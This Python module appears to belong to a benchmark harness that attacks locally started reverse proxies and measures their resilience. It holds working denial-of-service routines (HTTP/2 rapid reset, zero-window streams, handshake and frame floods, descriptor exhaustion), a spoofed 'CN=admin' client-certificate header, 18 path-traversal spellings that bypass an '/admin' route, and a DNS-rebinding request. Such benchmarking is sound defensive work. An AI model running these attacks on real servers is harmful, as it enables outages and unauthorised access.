# SPDX-License-Identifier: MIT
"""The attacks, each a function that says what is sent and what is measured.

The one idea: `f(stage, name)` brings up the proxy of that name, attacks it while honest clients are
served, and returns its figures by their names. ATTACKS is the list of them, in the order of the
table.
"""
import concurrent.futures
import contextlib
import time
import urllib.parse

from lib import attack_clients as clients
from lib import h2_frames
from lib.attack_stage import KIB, MIB, cpu, host, memory, settled_memory
from lib.certificates import client_context
from lib.witness import H2Origin, Witness

LARGE = "/size/524288"
SMALL_BUFFER = 4096
SECONDS = (4, 2, 1)  # full, short, smoke


def under_load(stage, running, seconds, send, *arguments):
    """Honest clients while the attacker sends; their figures, the CPU of the proxy in seconds, and
    what the attacker counted."""
    before = cpu(running)
    attacker = stage.attacker(seconds + 0.5, send, *arguments)
    try:
        figures = stage.honest(running, seconds)
    finally:
        counted = attacker.result()
    return figures, cpu(running) - before, counted


def connection_options(stage, name):
    """Sends heads of 31 KB: a `Connection` of one name and empty elements beside 90 unknown fields,
    one after the other. Measured: CPU of the proxy per head."""
    fields = ["Connection: a" + "," * 28000, *(f"X-Unknown-{n}: 1" for n in range(90))]
    with stage.proxy(name) as running:
        sent = clients.request("/", host(running), *fields)
        figures, used, counted = under_load(stage, running, stage.of(*SECONDS),
                                            clients.one_after_the_other, running.address, sent)
    return {"CPU per head, ms": 1000 * used / max(counted["requests"], 1), **figures}


def h2_windows(stage, name):
    """Opens HTTP/2 streams with windows of 0 for answers of 512 KiB, 100 on each connection, and
    waits. Measured: growth of resident memory while they are open, and what of it is left 2 s after
    they were closed."""
    with stage.proxy(name) as running, contextlib.ExitStack() as opened:
        stage.honest(running, 1)
        before = memory(running)
        for _ in range(stage.of(110, 8, 1)):
            made = opened.enter_context(clients.connect(running.site.h2, 5))
            made.sendall(h2_frames.PREFACE + h2_frames.settings(window=0) + b"".join(
                h2_frames.get(2 * n + 1, host(running), LARGE) for n in range(h2_frames.STREAMS)))
        most = settled_memory(running, stage.of(30, 15, 1))
        figures = stage.honest(running, stage.of(*SECONDS))
        most = max(most, memory(running))
        opened.close()
        time.sleep(stage.of(2, 2, 0.1))
        left = memory(running)
    return {"growth, MiB": (most - before) / MIB, "left afterwards, MiB": (left - before) / MIB,
            **figures}


def h1_readers(stage, name):
    """Asks for 4 MiB, more than the kernel keeps, on each of many connections of HTTP/1.1 and reads
    nothing. Measured: growth of resident memory per connection."""
    count = stage.of(300, 100, 10)
    with stage.proxy(name) as running, contextlib.ExitStack() as opened:
        stage.honest(running, 1)
        before = memory(running)
        for _ in range(count):
            made = opened.enter_context(clients.connect(running.address, 5, SMALL_BUFFER))
            made.sendall(clients.request("/size/4194304", host(running)))
        most = settled_memory(running, stage.of(30, 15, 1))
        figures = stage.honest(running, stage.of(*SECONDS))
    return {"memory per connection, KiB": (most - before) / count / KIB, **figures}


ALIASES = ("X-Client-Subject", "x-client-subject", "X_Client_Subject", "X-Client_Subject",
           "X.Client.Subject", "X-Client.Subject", "X!Client!Subject", "X~Client'Subject")


def identity(stage, name):
    """Says over TLS, without a certificate, who it is, in the field that carries the subject of a
    verified one and in names that a CGI variable makes equal to it. Measured: how many of the eight
    names reach the application."""
    with Witness() as app, stage.proxy(name, app.address) as running:
        for alias in ALIASES:
            with contextlib.suppress(OSError), clients.connect(running.site.tls) as plain:
                with client_context().wrap_socket(plain) as connection:
                    connection.sendall(clients.request("/", host(running), f"{alias}: CN=admin",
                                                       "Connection: close"))
                    clients.head_of(connection)
        reached = [field for one in app.seen for field, value in one.fields.items()
                   if value == "CN=admin" and
                   "".join(c if c.isalnum() else "_" for c in field.upper()) == "X_CLIENT_SUBJECT"]
        figures = {"requests that the application got": len(app.seen)}
    return {"aliases that reach the application": len(reached), **figures}


def descriptors(stage, name):
    """At 256 descriptors, 300 clients ask once and stay. Measured: of ten clients that were there
    before and of 40 that come afterwards, how many get no answer within two seconds. One that finds
    its idle connection closed may try once more, as clients do."""
    idle, fresh, before = stage.of(300, 300, 20), stage.of(40, 40, 5), stage.of(10, 10, 2)
    with stage.proxy(name, descriptors=256) as running, contextlib.ExitStack() as opened:
        sent = clients.request("/", host(running))

        def answered(connection):
            with contextlib.suppress(OSError):
                connection.settimeout(2)
                connection.sendall(sent)
                return clients.head_of(connection).startswith(b"HTTP/1.1 200")
            return False

        def arrive():
            with contextlib.suppress(OSError):
                made = opened.enter_context(clients.connect(running.address, 0.5))
                return made, answered(made)
            return None, False

        early = [arrive()[0] for _ in range(before)]
        for _ in range(idle):
            with contextlib.suppress(OSError):
                made = opened.enter_context(clients.connect(running.address, 0.5))
                made.sendall(sent)
        time.sleep(0.5)
        with concurrent.futures.ThreadPoolExecutor(fresh) as pool:
            served = sum(done for _, done in pool.map(lambda _: arrive(), range(fresh)))
            kept = sum(pool.map(lambda one: bool(one and (answered(one) or arrive()[1])), early))
        figures = {}
        if running.admin:
            status = clients.status_of(running.admin, clients.request("/readyz", "127.0.0.1"), 2)
            figures["status of /readyz"] = status
    return {"fresh clients without an answer": fresh - served,
            "earlier clients without an answer": before - kept, **figures}


def own_answers(stage, name):
    """Four connections pipeline requests that the proxy answers itself, with a 404, as fast as they
    are taken. Measured: what honest clients wait."""
    with stage.proxy(name) as running:
        piece = clients.request("/", "nowhere.test") * 500
        figures, used, counted = under_load(stage, running, stage.of(*SECONDS),
                                            clients.without_a_pause, running.address, 4, b"", piece)
    return {**figures, "CPU per answer, us": 1e6 * used / max(500 * counted["pieces"], 1)}


def client_hellos(stage, name):
    """Connections that send a ClientHello and leave when they are answered, 50 at a time, as fast
    as one process can. Measured: what honest clients without TLS wait, and the CPU for each."""
    with stage.proxy(name) as running:
        figures, used, counted = under_load(stage, running, stage.of(*SECONDS),
                                            clients.hello_flood, running.site.tls, 50)
    return {**figures, "CPU per ClientHello, us": 1e6 * used / max(counted["hellos"], 1)}


def rapid_reset(stage, name):
    """Requests over HTTP/2 that are reset in the packet they came in, 50 to a packet. Measured:
    connections at the origin for a thousand of them."""
    origin = stage.context.origin
    with stage.proxy(name) as running:
        stage.honest(running, 1)
        before = origin.counts()
        figures, used, counted = under_load(stage, running, stage.of(*SECONDS), clients.rapid_reset,
                                            running.site.h2, host(running), 50)
        made = origin.counts()["accepts"] - before["accepts"]
    streams = max(counted["streams"], 1)
    return {"connects at the origin per 1,000 resets": 1000 * made / streams, **figures,
            "CPU per stream, us": 1e6 * used / streams}


def left_clients(stage, name):
    """1,230 requests whose clients are gone (FIN behind the request), to an application that takes
    50 ms for each and gets eight at a time (nginx has no queue and sends all). Measured: how many
    of them the application worked on, and what honest clients wait who come behind them."""
    count = stage.of(1230, 400, 20)
    with stage.origin("--delay", "50") as slow:
        with stage.proxy(name, slow.address, most=8) as running:
            attacker = stage.attacker(stage.of(8, 4, 2), clients.leave_at_once, running.address,
                                      host(running), count)
            time.sleep(stage.of(2, 1, 0.5))
            figures = stage.honest(running, stage.of(*SECONDS), rate=50)
            sent = attacker.result()["requests"]
            honest = stage.of(*SECONDS) * 50
            worked = slow.counts()["requests"] - honest * (
                1 - figures["honest requests that failed, %"] / 100)
    return {"requests worked on for nobody, %": max(0, 100 * worked / max(sent, 1)), **figures}


# All of them are "/admin" to an application that decodes, merges and resolves.
SPELLINGS = ("/static/../admin", "/static/%2e%2e/admin", "/static/%2E%2E/admin",
             "/static/..%2fadmin", "/static/%2e%2e%2fadmin", "/static/..%5cadmin",
             "/static/..;/admin", "//admin", "///admin/", "/%61dmin", "/./admin", "/x/../admin",
             "/admin;x", "/;/admin", "/%2fadmin", "/static//../admin", "/admin%2fx", "/admin%3bx")


def paths(stage, name):
    """Asks for `/admin`, which has an upstream of its own, in 18 spellings. Measured: how many
    reach the upstream of `/` in a form that decoding, parameters cut off and dots resolved make
    `/admin` there."""
    with Witness() as app, Witness() as guarded:
        with stage.proxy(name, app.address, guarded.address) as running:
            for spelling in SPELLINGS:
                clients.status_of(running.address, clients.request(
                    spelling, host(running), "Connection: close"))
        reached = [one.target for one in app.seen if reads_as_admin(one.target)]
        return {"spellings that evade the route": len(reached)}


def reads_as_admin(target):
    """To an application that does all of that."""
    path = urllib.parse.unquote(target.partition("?")[0]).replace("\\", "/")
    names = []
    for name in (segment.partition(";")[0] for segment in path.split("/")):
        if name == "..":
            names = names[:-1]
        elif name not in ("", "."):
            names.append(name)
    return names[:1] == ["admin"]


def refused_streams(stage, name):
    """60 requests to three replicas that speak HTTP/2, of which one refuses every stream unseen.
    Measured: streams that this one was asked for, and requests that failed."""
    count = stage.of(60, 60, 6)
    with H2Origin(True) as refusing, H2Origin(False) as one, H2Origin(False) as other:
        replicas = [refusing.address, one.address, other.address]
        with stage.proxy(name, replicas, h2_upstream=True) as running:
            sent = clients.request("/", host(running), "Connection: close")
            failed = sum(clients.status_of(running.address, sent, 5) != 200 for _ in range(count))
        return {"streams at the replica that refuses": refusing.streams,
                "requests that failed": failed}


def small_chunks(stage, name):
    """Four connections send bodies in chunks of one byte, as fast as they are taken. Measured: CPU
    of the proxy per chunk, and what honest clients wait."""
    with stage.proxy(name) as running:
        opening = (f"POST / HTTP/1.1\r\nHost: {host(running)}\r\n"
                   "Transfer-Encoding: chunked\r\n\r\n").encode()
        figures, used, counted = under_load(
            stage, running, stage.of(*SECONDS), clients.without_a_pause, running.address, 4,
            opening, b"1\r\na\r\n" * 4000)
    return {"CPU per chunk, ns": 1e9 * used / max(4000 * counted["pieces"], 1), **figures}


def frame_floods(stage, name):
    """One connection of HTTP/2 sends SETTINGS and PING frames without a pause and does not wait for
    their answers. Measured: what honest clients wait."""
    frames = (h2_frames.settings(window=65535) + h2_frames.frame(
        h2_frames.PING, payload=b"12345678")) * 500
    with stage.proxy(name) as running:
        figures, _, _ = under_load(stage, running, stage.of(*SECONDS), clients.frame_flood,
                                   running.site.h2, frames)
    return figures


def admin_readers(stage, name):
    """300 connections ask the admin endpoint for /metrics, four times each, and read nothing.
    Measured: growth of resident memory."""
    with stage.proxy(name) as running, contextlib.ExitStack() as opened:
        stage.honest(running, 1)
        before = memory(running)
        for _ in range(stage.of(300, 100, 10)):
            with contextlib.suppress(OSError):
                made = opened.enter_context(clients.connect(running.admin, 1, SMALL_BUFFER))
                made.sendall(clients.request("/metrics", "127.0.0.1") * 4)
        most = settled_memory(running, stage.of(30, 15, 1))
        figures = stage.honest(running, stage.of(*SECONDS))
    return {"growth, MiB": (most - before) / MIB, **figures}


def admin_host(stage, name):
    """Asks the admin endpoint for /config under the name of an attacker's page (DNS rebinding).
    Measured: the status of the answer."""
    with stage.proxy(name) as running:
        status = clients.status_of(running.admin, clients.request("/config", "evil.example"))
    return {"status": status}


# name: (function, proxies that it is of no use against, and why)
ATTACKS = {
    "connection-options": (connection_options, {}),
    "h2-windows": (h2_windows, {}),
    "h1-readers": (h1_readers, {}),
    "identity": (identity, {}),
    "descriptors": (descriptors, {}),
    "own-answers": (own_answers, {}),
    "client-hellos": (client_hellos, {}),
    "rapid-reset": (rapid_reset, {}),
    "left-clients": (left_clients, {}),
    "paths": (paths, {}),
    "refused-streams": (refused_streams, {"nginx": "no HTTP/2 to upstreams"}),
    "small-chunks": (small_chunks, {}),
    "frame-floods": (frame_floods, {}),
    "admin-readers": (admin_readers, {"nginx": "no such endpoint", "haproxy": "no such endpoint"}),
    "admin-host": (admin_host, {"nginx": "no such endpoint", "haproxy": "no such endpoint"}),
}
